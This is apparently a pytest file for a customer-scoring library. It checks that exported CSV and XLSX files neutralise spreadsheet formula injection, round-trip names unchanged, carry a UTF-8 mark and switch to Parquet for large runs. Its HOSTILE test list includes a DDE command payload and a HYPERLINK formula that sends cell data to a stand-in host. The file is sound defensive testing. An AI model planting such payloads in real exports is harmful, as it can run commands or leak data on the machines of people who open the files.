# SPDX-License-Identifier: Apache-2.0
"""The table of scores that people open: harmless in a spreadsheet, the same when read back, and Parquet when it is long."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import polars as pl
import pytest
import rulescore
from commands import AS_OF, small_pack
from rulescore.folder import Run
from rulescore.scores import CSV_UP_TO

# what a spreadsheet takes for a formula, a command or a link begins like this
HOSTILE = [
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"open")', "@SUM(1+1)", "+1", "-1", "＝1+1", "＋1", "－1", "＠x",
    "=1\n=2", "'=already quoted", "'", "''",
]  # fmt: skip
PLAIN = [
    'quoted "name"',
    "a, b; c",
    "two\nlines",
    "甲 客户 😀",
    "007",
    "1e5",
    "TRUE",
    "2026-06-30",
    "=".rjust(2, "x"),
]
IDS = [
    f"@{index}" if name[0] in "＝＋－＠'" else name  # readers tidy ids of these forms
    for index, name in enumerate([*HOSTILE, *PLAIN])
]
STARTS = tuple("=+-@＝＋－＠\t\r\n")


@pytest.fixture
def pack(tmp_path: Path) -> Path:
    return small_pack(tmp_path)


@pytest.fixture
def run(pack: Path, tmp_path: Path) -> Run:
    """Customers whose ids and names are as hostile or as odd as they come."""
    names = [*HOSTILE, *PLAIN]
    frame = pl.DataFrame({"customer_id": IDS, "name": list(reversed(names)), "visits": [4.0] * len(names)})
    rulescore.evaluate(frame, pack, AS_OF, out=tmp_path / "run")
    return Run.read(tmp_path / "run")


def cells(run: Run) -> list[list[str]]:
    """The file as a spreadsheet splits it."""
    text = (run.folder / "scores.csv").read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_no_cell_of_text_can_be_a_formula(run: Run) -> None:
    """Guards people who open scores.csv: no id and no name begins like a formula; the others are left alone."""
    header, *rows = cells(run)
    columns = [header.index("customer_id"), header.index("name")]
    assert len(rows) == len(HOSTILE) + len(PLAIN)
    for row in rows:
        assert not [cell for cell in row if cell.startswith(STARTS)]
    assert [row[columns[0]] for row in rows] == [f"'{name}" for name in IDS[: len(HOSTILE)]] + PLAIN
    assert [row[columns[1]] for row in rows] == [
        *reversed(PLAIN),
        *(f"'{name}" for name in reversed(HOSTILE)),
    ]


def test_names_come_back_as_they_were(run: Run) -> None:
    """Guards programs that read the run: the apostrophe is for spreadsheets only."""
    names = [*HOSTILE, *PLAIN]
    assert run.table["customer_id"].to_list() == IDS
    assert run.table["name"].to_list() == names[::-1]
    assert run.table["composite"].to_list() == [40.0] * len(names)
    assert run.table.schema == {
        "customer_id": pl.String, "name": pl.String, **dict.fromkeys(("worth", "composite", "low", "high", "coverage"), pl.Float64),
        **dict.fromkeys(("tier", "tier_reason", "gates", "reasons"), pl.String),
    }  # fmt: skip


def test_a_hostile_customer_can_be_explained(run: Run) -> None:
    """Guards the way from a name in the table to its explanation."""
    for name in IDS[: len(HOSTILE)]:
        assert rulescore.explain(run, name).startswith(name.split("\n")[0])


def test_the_file_is_utf8_with_a_mark(run: Run) -> None:
    """Guards Chinese in Excel, which takes a CSV without the mark for one in the local encoding; one mark only."""
    data = (run.folder / "scores.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbfcustomer_id,")
    assert data.count(b"\xef\xbb\xbf") == 1
    assert "甲".encode() in data


def test_a_customer_without_any_data_has_no_score(pack: Path, tmp_path: Path) -> None:
    """Guards that nothing known is shown as nothing, and not as zero, nan or None; and so when read back."""
    frame = pl.DataFrame(
        {"customer_id": ["A"], "visits": [None]}, schema={"customer_id": pl.String, "visits": pl.Float64}
    )
    run = rulescore.evaluate(frame, pack, AS_OF, out=tmp_path / "run")
    header, row = cells(run)
    shown = dict(zip(header, row, strict=True))
    assert shown == {
        "customer_id": "A", "worth": "", "composite": "", "low": "5.0", "high": "100.0", "coverage": "0.0", "tier": "",
        "tier_reason": "not-assessed", "gates": "", "reasons": "",
    }  # fmt: skip
    read = Run.read(tmp_path / "run").table.row(0, named=True)
    assert (read["composite"], read["tier"], read["gates"], read["reasons"]) == (None, None, "", "")


def test_rejected_rows_are_no_formulas_either(tmp_path: Path) -> None:
    """Guards people who open rejected.xlsx: what was read stands there as text."""
    frames = {
        "customers": pl.DataFrame({"customer_id": ["A"], "annual_revenue": [1.0]}),
        "orders": pl.DataFrame(
            {"customer_id": ["=1+1", "A"], "order_date": ["2026-01-01", "2026-01-01"], "amount": [1.0, 2.0]}
        ),
    }
    run = rulescore.evaluate(frames, "general", AS_OF, out=tmp_path / "run")
    with zipfile.ZipFile(run.folder / "rejected.xlsx") as book:
        sheets = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/")]
        strings = book.read("xl/sharedStrings.xml").decode()
    assert sheets and not [sheet for sheet in sheets if "<f>" in sheet]
    assert "=1+1" in strings


@pytest.mark.parametrize("more", [0, 1])
def test_beyond_a_hundred_thousand_the_scores_are_parquet(pack: Path, tmp_path: Path, more: int) -> None:
    """Guards the promise of README and the memory of spreadsheets: CSV up to 100,000 customers, Parquet beyond; one or
    the other, with the same columns and the same scores. Of visits 0 to 10, ten times as many points."""
    assert CSV_UP_TO == 100_000
    count = CSV_UP_TO + more
    visits = pl.int_range(count, eager=True) % 11
    frame = pl.DataFrame(
        {
            "customer_id": pl.int_range(count, eager=True).cast(pl.String),
            "name": "=x",
            "visits": visits.cast(pl.Float64),
        }
    )
    run = rulescore.evaluate(frame, pack, AS_OF, out=tmp_path / "run")
    files = {path.name for path in run.folder.glob("scores.*")}
    assert files == ({"scores.parquet"} if more else {"scores.csv"})
    table = Run.read(run.folder).table
    assert table["composite"].to_list() == (visits * 10).cast(pl.Float64).to_list()
    assert set(table["name"]) == {"=x"}
    assert table.columns == [
        "customer_id",
        "name",
        "worth",
        "composite",
        "low",
        "high",
        "coverage",
        "tier",
        "tier_reason",
        "gates",
        "reasons",
    ]
    assert dict(table["tier"].cast(pl.String).value_counts().iter_rows()) == {
        tier: sum(visits.is_in(list(range(low, high)))) for tier, low, high in (("low", 0, 5), ("middle", 5, 8), ("high", 8, 11))
    }  # fmt: skip
